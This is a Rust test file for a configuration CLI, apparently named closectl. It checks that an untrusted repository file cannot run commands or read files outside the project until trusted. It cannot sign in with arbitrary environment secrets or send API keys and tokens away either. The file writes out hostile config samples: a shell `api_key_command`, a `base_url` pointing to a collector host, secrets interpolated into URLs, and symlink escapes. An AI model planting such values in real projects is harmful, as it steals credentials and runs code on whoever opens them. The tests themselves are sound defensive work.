//! What a project file could take or run: no command does any of it before its person said so, and each says which line
//! it is about and what to do.

use super::trap::{HostileRepository, PWNED};
use crate::harness::Ran;
use std::{fs, os::unix::fs::symlink};

/// The commands that reach an organization or read what the project names, and so have to refuse.
const REACHING: [&str; 6] = ["plan", "apply", "pull", "drift", "diff", "promote"];

/// A project whose organization says this, and another one that is harmless.
fn project(of_trap: &str) -> String {
    format!(
        "version: 1\nmanifests: [manifests]\ndefault_organization: trap\norganizations:\n  other: {{sandbox: \
         .closectl/other.json}}\n  trap:\n    {of_trap}\n"
    )
}

fn repository(project: &str) -> HostileRepository {
    let clone = HostileRepository::new(project);
    clone.write("manifests/m.yaml", "lead_statuses: [Potential, New]\n");
    clone
}

/// Runs every command and expects those that reach an organization to refuse, with the line and the way out.
fn assert_refused(clone: &HostileRepository, line: usize, setting: &str) {
    expect_refusals(clone.spring(), clone, line, setting);
}

/// The same with the commands that have to refuse alone, for further forms of one trap.
fn assert_also_refused(clone: &HostileRepository, line: usize, setting: &str) {
    expect_refusals(
        clone.spring_with(|command| REACHING.contains(&command)),
        clone,
        line,
        setting,
    );
}

fn expect_refusals(runs: Vec<(Vec<String>, Ran)>, clone: &HostileRepository, line: usize, setting: &str) {
    for (arguments, ran) in runs {
        if !REACHING.contains(&arguments[0].as_str()) {
            continue;
        }
        assert_eq!(ran.code, 3, "{arguments:?}: {}\n{}", ran.stdout, ran.stderr);
        let place = format!("closectl.yaml:{line}: {setting}");
        assert!(ran.stderr.contains(&place), "{arguments:?}: {}", ran.stderr);
        assert!(
            ran.stderr
                .contains("hint: run `closectl trust` to review and approve it"),
            "{arguments:?}: {}",
            ran.stderr
        );
    }
    assert_eq!(
        clone.world.sandbox.calls(),
        [],
        "nothing was sent to this machine, either"
    );
}

#[test]
fn no_command_of_the_repository_is_run() {
    let clone = repository(&project(&format!("api_key_command: 'id > {PWNED}'")));
    assert_refused(&clone, 7, "`api_key_command` of `trap`");
}

#[test]
fn no_key_goes_to_a_server_that_the_repository_names() {
    let clone = repository(&project(
        "api_key: ${env:CLOSE_API_KEY}\n    base_url: https://collector.example.com/api/v1",
    ));
    assert_refused(&clone, 8, "`base_url` of `trap`");
}

#[test]
fn no_value_of_the_environment_but_those_of_close_signs_in() {
    let url = |clone: &HostileRepository| clone.world.sandbox.base_url();
    let some = repository("version: 1\n");
    for (way, setting) in [
        ("api_key: ${env:AWS_SECRET_ACCESS_KEY}", "`api_key`"),
        ("access_token: x${env:GITHUB_TOKEN}", "`access_token`"),
        (
            "oauth: {client_id: a, client_secret: '${env:CLOSE_B}', refresh_token: \"${env:DEPLOY_PASSWORD}\"}",
            "`oauth.refresh_token`",
        ),
    ] {
        some.write(
            "closectl.yaml",
            &project(&format!("{way}\n    base_url: {}", url(&some))),
        );
        assert_also_refused(&some, 7, &format!("{setting} of `trap`"));
    }
}

#[test]
fn no_address_carries_a_value_of_the_environment_away() {
    let clone = repository(&project(
        "api_key: ${env:CLOSE_API_KEY}\n    base_url: https://${env:USER}.close.com/api/v1",
    ));
    assert_refused(&clone, 8, "`base_url` of `trap`");
    for url in [
        "https://api.close.com/${env:CLOSE_ACME}",
        "https://${env:HOOKS}.example.com/",
    ] {
        clone.write(
            "closectl.yaml",
            &project(&format!("api_key: ${{env:CLOSE_API_KEY}}\n    base_url: {url}")),
        );
        assert_also_refused(&clone, 8, "`base_url` of `trap`");
    }
}

#[test]
fn no_address_carries_a_secret_away_whether_trusted_or_not() {
    let clone = repository("version: 1\n");
    for (name, url) in [
        ("GITHUB_TOKEN", "https://${env:GITHUB_TOKEN}.example.com/api/v1"),
        ("GITHUB_TOKEN", "https://api.close.com/${env:GITHUB_TOKEN}"),
        ("CLOSE_API_KEY", "https://${env:CLOSE_API_KEY}.close.com/api/v1"),
        (
            "CLOSE_STAGING_API_KEY",
            "https://${env:CLOSE_STAGING_API_KEY}.close.com/api/v1",
        ),
        ("CLOSE_API_KEY", "https://api.close.com/${env:CLOSE_API_KEY}/v1"),
        ("CLOSE_ACME", "https://api.close.com/${env:CLOSE_ACME}/v1"),
        ("CLOSE_COPY_URL", "https://${env:CLOSE_COPY_URL}.close.com/api/v1"),
    ] {
        // What the file itself signs in with is a secret, whatever its name; so is the value of one, wherever it stands.
        let text = project(&format!("base_url: {url}\n    api_key: x${{env:CLOSE_ACME}}"));
        clone.write("closectl.yaml", &format!("{text}environment: [GITHUB_TOKEN]\n"));
        let key = clone.world.sandbox.api_key();
        let run = |arguments: &[&str]| {
            let arguments: Vec<String> = arguments.iter().map(|word| (*word).to_owned()).collect();
            let mut command = clone.command(&arguments);
            command.envs([
                ("CLOSE_STAGING_API_KEY", "api_staging.0123456789abc"),
                ("CLOSE_ACME", "api_acme.0123456789abc"),
                ("CLOSE_COPY_URL", key),
            ]);
            crate::harness::finish(command)
        };

        for is_trusted in [false, true] {
            if is_trusted {
                run(&["trust", "--yes"]);
            }
            for command in ["plan", "drift", "apply", "pull"] {
                let ran = run(&[command]);
                assert_eq!(ran.code, 3, "{url}: {}", ran.stderr);
                let told = format!("`base_url` of `trap` (closectl.yaml:7) names `{name}`");
                assert!(ran.stderr.contains(&told), "{url}: {}", ran.stderr);
                assert!(
                    !ran.stderr.to_lowercase().contains("0123456789abc"),
                    "{}",
                    ran.stderr
                );
            }
        }
        if name == "GITHUB_TOKEN" {
            clone.spring();
        }
    }
    assert_eq!(clone.world.sandbox.calls(), []);
}

#[test]
fn no_half_read_variable_signs_in() {
    let clone = repository("version: 1\n");
    for (line, setting) in [
        (7, "api_key: '${env:CLOSE_${env:AWS_SECRET_ACCESS_KEY}}'"),
        (7, "api_key: 'x${env:CLOSE_API_KEY'"),
        (7, "api_key: '${CLOSE_API_KEY}'"),
        (7, "access_token: '${var:token}'"),
        (
            7,
            "oauth: {client_id: a, client_secret: '${env:}', refresh_token: b}",
        ),
        (
            8,
            "api_key: x\n    base_url: 'https://${env:A_${env:B}}.close.com/'",
        ),
    ] {
        clone.write("closectl.yaml", &project(setting));
        for (arguments, ran) in clone.spring_with(|command| REACHING.contains(&command)) {
            assert_eq!(ran.code, 1, "{setting} {arguments:?}: {}", ran.stderr);
            let place = format!("closectl.yaml:{line}:");
            assert!(
                ran.stderr.contains(&place),
                "{setting} {arguments:?}: {}",
                ran.stderr
            );
            assert!(
                ran.stderr.contains("that can't be read"),
                "{setting}: {}",
                ran.stderr
            );
        }
    }
}

#[test]
fn nothing_outside_the_repository_is_read_or_replaced() {
    let clone = repository("version: 1\n");
    let outside = clone.outside().display().to_string();
    symlink(clone.outside(), clone.world.folder.path().join("link")).unwrap();
    symlink(
        clone.outside().join("not-there.json"),
        clone.world.folder.path().join("state.json"),
    )
    .unwrap();

    for (of_trap, setting) in [
        (format!("sandbox: {outside}/private.yaml"), "`sandbox` of `trap`"),
        ("sandbox: state.json".to_owned(), "`sandbox` of `trap`"),
        ("sandbox: link/new.json".to_owned(), "`sandbox` of `trap`"),
        (
            "sandbox: x.json\n    overlays: [link/private.yaml]".to_owned(),
            "`overlays` of `trap`",
        ),
        (
            format!("sandbox: x.json\n    overlays: [{outside}/private.yaml]"),
            "`overlays` of `trap`",
        ),
    ] {
        clone.write("closectl.yaml", &project(&of_trap));
        let line = if of_trap.contains("overlays") { 8 } else { 7 };
        assert_also_refused(&clone, line, setting);
    }
}

#[test]
fn no_manifest_or_project_file_outside_the_repository_is_read() {
    let clone = repository("version: 1\n");
    let outside = clone.outside().display().to_string();
    symlink(clone.outside(), clone.world.folder.path().join("link")).unwrap();

    for manifests in [
        outside.clone(),
        "link".to_owned(),
        format!("{outside}/private.yaml"),
    ] {
        let text = project("sandbox: x.json").replace("[manifests]", &format!("[{manifests}]"));
        clone.write("closectl.yaml", &text);
        let reads = |command: &str| ["plan", "apply", "drift", "validate", "show"].contains(&command);
        for (arguments, ran) in clone.spring_with(reads) {
            assert_eq!(ran.code, 3, "{manifests} {arguments:?}: {}", ran.stderr);
            assert!(
                ran.stderr.contains("closectl.yaml:2: `manifests`"),
                "{}",
                ran.stderr
            );
        }
    }

    for include in [format!("{outside}/private.yaml"), "link/private.yaml".to_owned()] {
        let text = format!("{}include: [{include}]\n", project("sandbox: x.json"));
        clone.write("closectl.yaml", &text);
        for (arguments, ran) in clone.spring() {
            if REACHING.contains(&arguments[0].as_str()) {
                assert_eq!(ran.code, 1, "{include} {arguments:?}: {}", ran.stderr);
                assert!(
                    ran.stderr.contains("leads out of the folder of the project"),
                    "{}",
                    ran.stderr
                );
            }
        }
    }
}

#[test]
fn the_traps_of_this_test_do_spring_where_somebody_trusts_them() {
    let clone = repository(&project(&format!("api_key_command: 'id > {PWNED}; cat key'")));
    clone.write("key", clone.world.sandbox.api_key());
    let server = ("CLOSE_BASE_URL", clone.world.sandbox.base_url());
    let run = |arguments: &[&str]| {
        let arguments: Vec<String> = arguments.iter().map(|word| (*word).to_owned()).collect();
        let mut command = clone.command(&arguments);
        command.env(server.0, &server.1);
        crate::harness::finish(command)
    };
    assert_eq!(run(&["plan"]).code, 3);
    let trusted = run(&["trust", "--yes"]);
    assert_eq!(trusted.code, 0, "{}", trusted.stderr);
    let ran = run(&["plan"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(fs::exists(clone.world.folder.path().join(PWNED)).unwrap());
}
